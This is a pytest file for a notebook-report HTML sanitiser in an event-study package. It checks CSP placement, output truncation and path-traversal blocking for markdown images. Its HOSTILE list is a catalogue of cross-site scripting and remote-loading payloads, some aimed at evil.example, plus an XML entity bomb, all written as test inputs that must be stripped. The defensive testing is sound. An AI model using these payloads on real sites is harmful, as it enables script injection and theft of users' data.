"""What notebooks show is made safe: nothing that runs, asks or loads is left, and what honest output needs is."""

from __future__ import annotations

import base64
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest

import eventstudy as es
from eventstudy.errors import StudyFileError
from eventstudy.report import notebook_page as pages
from eventstudy.report.builds.notebooks import execute
from eventstudy.report.builds.publish import _index_page
from eventstudy.report.safe_html import POLICY, left_out, safe, svg_image
from eventstudy.studyfile.starter import make_starter, notebook_text

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

#: Hostile pieces, each with what must not be left of it; other ones than any that the code names.
HOSTILE = [
    ("<script>alert(1)</script>", "alert"),
    ("<ScRiPt src=//evil.example/x.js></sCrIpT >", "evil"),
    ("<script>alert(1)", "alert"),
    ("<img src=x onerror=alert(1)>", "alert"),
    ("<b ONMOUSEOVER='alert(1)'>x</b>", "alert"),
    ("<a href='java\nscript:alert(1)'>x</a>", "alert"),
    ("<a href=' &#106;avascript:alert(1)'>x</a>", "alert"),
    ("<a href='vbscript:x'>x</a>", "vbscript"),
    ("<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "data:"),
    ("<img src='data:text/html;base64,PHNjcmlwdD4='>", "data:"),
    ("<img src='https://evil.example/pixel.gif'>", "evil"),
    ("<img src='//evil.example/pixel.gif'>", "evil"),
    ("<img srcset='https://evil.example/a 2x' src='data:image/png;base64,AA=='>", "evil"),
    ("<picture><source srcset='https://evil.example/a'></picture>", "evil"),
    ("<iframe src='https://evil.example'></iframe>", "evil"),
    ("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "alert"),
    ("<form action='https://evil.example'><input name=password><button>go</button></form>", "evil"),
    ("<button formaction='https://evil.example'>x</button>", "evil"),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "evil"),
    ("<base href='https://evil.example/'>", "evil"),
    ("<link rel=stylesheet href='https://evil.example/x.css'>", "evil"),
    ("<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>", "evil"),
    ("<video src='https://evil.example/v' poster='https://evil.example/p'></video>", "evil"),
    ("<table background='https://evil.example/b'><tr><td background='https://evil.example/b'>1</table>", "evil"),
    ("<style>@import 'https://evil.example/x.css';</style>", "evil"),
    ("<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>", "evil"),
    ("<style>td{background:url('https://evil.example/b')}</style>", "evil"),
    ("<style>td{background:\\75 rl(https://evil.example/b)}</style>", "evil"),
    ("<style>td{background:image-set('https://evil.example/b' 1x)}</style>", "evil"),
    ("<style>td{--x:url(https://evil.example/b)}</style>", "evil"),
    ("<style>td{content:'</style><script>alert(1)</script>'}</style>", "alert"),
    ("<p style='background:URL(//evil.example/b)'>x</p>", "evil"),
    ("<p style='background:u\\72l(//evil.example/b)'>x</p>", "evil"),
    ("<p style='width:expression(alert(1))'>x</p>", "alert"),
    ("<p style='behavior:url(#x);-moz-binding:url(//evil.example)'>x</p>", "evil"),
    ("<svg onload=alert(1)><circle r=9 /></svg>", "alert"),
    ("<svg><script>alert(1)</script></svg>", "<svg"),
    ("<svg><foreignObject><iframe src='https://evil.example'/></foreignObject></svg>", "evil"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", "onerror"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "onerror="),
    ("<textarea><style></textarea><img src=x onerror=alert(1)></style>", "onerror="),
    ("<!--<img src=x onerror=alert(1)>-->", "alert"),
    ("<template><script>alert(1)</script></template>", "alert"),
    ("<details ontoggle=alert(1) open><summary>x</summary></details>", "alert"),
    ("<isindex action='javascript:alert(1)'>", "alert"),
    ("<body onload=alert(1) background='https://evil.example'>", "alert"),
    ("<div style='x:y' style='background:url(//evil.example)'>", "evil"),
]  # fmt: skip


class Seen(HTMLParser):
    """What a browser would act on, found with another parser than the sanitiser's."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.acts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "iframe",
            "form",
            "input",
            "meta",
            "base",
            "link",
            "object",
            "embed",
            "svg",
            "math",
            "video",
            "source",
        }:
            self.acts.append(tag)
        for name, value in attrs:
            bare = re.sub(r"\s", "", value or "").lower()
            if name.startswith("on") or (
                name in ("src", "href") and bare.startswith(("javascript", "vbscript", "data:text"))
            ):
                self.acts.append(f"{tag} {name}")
            if name in (
                "src",
                "srcset",
                "poster",
                "background",
                "action",
                "formaction",
                "srcdoc",
            ) and not bare.startswith("data:image/"):
                self.acts.append(f"{tag} {name}")
            if name == "style" and "url(" in bare:
                self.acts.append(f"{tag} {name}")


@pytest.mark.parametrize(("piece", "gone"), HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<table><tr><td>{}</td></tr></table>", "<p title='a'>b<b>{}"])
def test_nothing_that_runs_or_loads_is_left(piece: str, gone: str, around: str) -> None:
    found = safe(around.format(piece))
    assert gone not in found.lower()
    assert Seen(found).acts == []
    assert safe(found) == found


def test_pictures_that_are_left_out_are_named_and_others_stay() -> None:
    kept = f'<img src="data:image/png;base64,{PNG}" alt="Beta &lt; 1">'
    assert html.unescape(safe(kept)) == html.unescape(kept)
    assert safe("<img src=https://x.example/a.png alt='a <b> src=\"1\"'>").startswith(
        "<em>[picture from elsewhere left out: a "
    )
    assert left_out("<IFRAME src=x></IFRAME><p>form</p><formula>") == ("frames",)


def test_drawings_become_pictures() -> None:
    drawing = '<svg width="40px" height="20" viewBox="0 0 4 2" aria-label="Two &amp; three"><rect width="4" height="2"/></svg>'
    found = safe(f"<p>{drawing}</p>")
    content = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', found)
    assert content is not None
    assert b'viewBox="0 0 4 2"' in base64.b64decode(content[1])
    assert b'xmlns="http://www.w3.org/2000/svg"' in base64.b64decode(content[1])
    assert 'alt="Two &amp; three"' in found
    assert 'width="40"' in found
    bomb = '<svg><!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><text>&b;</text></svg>'
    assert svg_image(bomb) == ""


def styled() -> str:
    table = pd.DataFrame({"car": [0.012, -0.169, 0.03], "p": [0.4, 0.001, 0.2]}, index=["ORCL", "NVDA", "SNPS"])
    hints = pd.DataFrame({"car": ["a", "b", "c"], "p": ["d", "e", "f"]}, index=table.index)
    return str(
        table.style.format("{:+.2%}")
        .bar(color=["#d65f5f", "#5fba7d"], align="zero", subset=["car"])
        .background_gradient(subset=["p"])
        .set_caption("Three firms")
        .set_tooltips(hints)
        .to_html()
    )


def test_what_a_styler_needs_is_kept_for_its_table_alone() -> None:
    given, found = styled(), safe(styled())
    sheet = found.partition("</style>")[0]
    colours = re.findall(r"background-color: (#[0-9a-f]{6})", given)
    assert len(colours) >= 3
    assert all(c in sheet for c in colours)
    assert given.count("linear-gradient(") == sheet.count("linear-gradient(") >= 2
    assert "content: " in sheet  # the words of tooltips
    rules = [line for line in sheet.splitlines() if "{" in line]
    assert all(
        part.strip().startswith((":where(.notebook)", "<style>:where(.notebook)"))
        for line in rules
        for part in line.partition("{")[0].split(",")
    )
    for mark in ('id="T_', 'class="data row0 col0', "<caption>Three firms</caption>", "ORCL"):
        assert mark in found


def test_own_results_keep_every_attribute(prices: es.Prices) -> None:
    result = es.EventStudy(model=es.MarketModel("^GSPC"), window=(-5, 5)).run(
        prices, [es.Event(t, "2025-01-27") for t in ("NVDA", "META", "GOOGL")]
    )
    given = result._repr_html_() + result.plot_car()._repr_html_() + pd.DataFrame({"x": [1.0]})._repr_html_()
    found = safe(given)
    assert re.findall(r"data:image/png;base64,[^\"]+", given) == re.findall(r"data:image/png;base64,[^\"]+", found)

    class All(HTMLParser):
        def __init__(self, text: str) -> None:
            super().__init__()
            self.seen: list[tuple[str, dict[str, str]]] = []
            self.feed(text)

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag != "style":
                self.seen.append((tag, {k: re.sub(r"[\s;]", "", v or "") for k, v in attrs if k != "border"}))

    assert All(found).seen == All(given).seen


# -- The page of a notebook, and its policy.


@pytest.fixture
def spec(tmp_path: Path):
    (tmp_path / "n.ipynb").write_text(notebook_text((("markdown", "# N"),)), encoding="utf-8")
    return es.load_study(make_starter(tmp_path / "mine"))


def test_a_page_says_what_was_left_out_unless_its_study_trusts_it(spec, tmp_path: Path) -> None:
    body = "<p>So.</p><script>go()</script><form></form>"
    page = pages.notebook_page(spec, tmp_path / "n.ipynb", body)
    assert "go()" not in page
    assert "does not say <code>trust_notebooks = true</code>: forms and scripts." in page
    assert "script-src" not in page
    file = spec.folder / "study.toml"
    file.write_text("trust_notebooks = true\n" + file.read_text(encoding="utf-8"), encoding="utf-8")
    trusted = pages.notebook_page(es.load_study(spec.folder), tmp_path / "n.ipynb", body)
    assert "<script>go()</script>" in trusted
    assert "left out because" not in trusted.lower()
    assert "script-src &#39;unsafe-inline&#39;" in trusted
    file.write_text(file.read_text(encoding="utf-8").replace("= true", '= "yes"', 1), encoding="utf-8")
    with pytest.raises(StudyFileError, match="trust_notebooks"):
        es.load_study(spec.folder)


def test_every_kind_of_page_has_the_policy_before_anything_it_governs(spec, tmp_path: Path) -> None:
    written = POLICY.replace("'", "&#39;")
    notebook = pages.notebook_page(spec, tmp_path / "n.ipynb", "<p>So.</p>")
    versions = _index_page("A title", [{"version": 1, "folder": "versions/0001", "data": {}, "corrections": 0}])
    for page in (notebook, versions.replace("&#x27;", "&#39;")):
        place = page.index(f'<meta http-equiv="Content-Security-Policy" content="{written}">')
        assert all(place < page.index(tag) for tag in ("<title", "<body", *(["<style"] if "<style" in page else [])))


# -- How much of a cell is shown.


def cell(*outputs: dict) -> nbformat.NotebookNode:
    made = nbformat.v4.new_code_cell("x")
    made.outputs = [nbformat.from_dict(o) for o in outputs]
    return made


def shown(data: dict) -> dict:
    return {"output_type": "display_data", "data": data, "metadata": {}}


def stream(text: str) -> dict:
    return {"output_type": "stream", "name": "stdout", "text": text}


def test_text_is_cut_at_the_limit_of_a_cell_and_the_rest_is_counted() -> None:
    made = cell(stream("a" * 700_000), stream("b" * 2_300_000), stream("c" * 10))
    pages.cut_outputs(made)
    text = "".join(o["text"] for o in made.outputs)
    assert text == "a" * 700_000 + "b" * 300_000
    assert made.metadata["cut"] == (
        "Cut: 2.0 MB of text left out here; a page shows up to 1 MB of text and 5 MB of pictures of a cell."
    )


def test_pictures_have_a_limit_of_their_own_and_one_that_is_too_large_is_shown_as_text() -> None:
    small, large = "A" * 2_000_000, "A" * 8_000_000  # base64: three bytes in four characters
    made = cell(
        shown({"image/png": small}), shown({"image/png": large, "text/plain": "<Figure>"}), shown({"image/png": small})
    )
    pages.cut_outputs(made)
    assert [dict(o["data"]) for o in made.outputs] == [
        {"image/png": small},
        {"text/plain": "<Figure>"},
        {"image/png": small},
    ]
    assert "Cut: 6.0 MB of pictures" in made.metadata["cut"]
    inside = cell(shown({"text/html": f'<img src="data:image/png;base64,{large}">', "text/plain": "words"}))
    pages.cut_outputs(inside)
    assert dict(inside.outputs[0]["data"]) == {"text/plain": "words"}


def test_html_that_is_cut_takes_nothing_that_follows_into_it() -> None:
    rows = "<tr><td>1</td></tr>" * 100_000
    made = cell(shown({"text/html": f"<table><tbody>{rows}</tbody></table>"}))
    notebook = nbformat.v4.new_notebook(cells=[made, nbformat.v4.new_markdown_cell("# After")])
    body = pages.to_html(notebook)
    assert 45_000 < body.count("<td>1</td>") < 60_000
    assert body.rindex("</table>") < body.index("Cut: ") < body.index("After")


def test_many_small_outputs_are_cut_too() -> None:
    made = cell(*(shown({"text/plain": "1"}) for _ in range(30_000)))
    pages.cut_outputs(made)
    assert 5_000 < len(made.outputs) < 15_000
    assert "Cut" in made.metadata["cut"]


def test_what_is_within_the_limits_is_untouched() -> None:
    rng = np.random.default_rng(5)
    words = " ".join(map(str, rng.normal(size=20_000)))
    made = cell(stream(words), shown({"image/png": "A" * 1_000, "text/plain": "x"}), shown({"text/html": "<b>1</b>"}))
    pages.cut_outputs(made)
    assert made.outputs[0]["text"] == words
    assert [dict(o["data"]) for o in made.outputs[1:]] == [{"image/png": "A" * 1_000}, {"text/html": "<b>1</b>"}]
    assert "cut" not in made.metadata


def test_a_cell_that_is_no_page_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "large.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1\n" * 200_000)]), path)
    with pytest.raises(StudyFileError, match=r"large\.ipynb: cell 1 has 1,200,000 characters.*put data into a file"):
        execute(path)


def test_pictures_of_the_words_come_from_the_notebooks_folder_wherever_the_build_runs(
    tmp_path: Path, monkeypatch
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "dot.png").write_bytes(base64.b64decode(PNG))
    (tmp_path / "secret.png").write_bytes(base64.b64decode(PNG))
    monkeypatch.chdir("/")
    words = "![a dot](dot.png)\n\n![no](../secret.png)\n\n![no](/etc/hostname)"
    body = safe(pages.to_html(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(words)]), tmp_path / "in"))
    assert body.count(f"data:image/png;base64,{PNG}") == 1
    assert body.count("[picture from elsewhere left out: no]") == 2
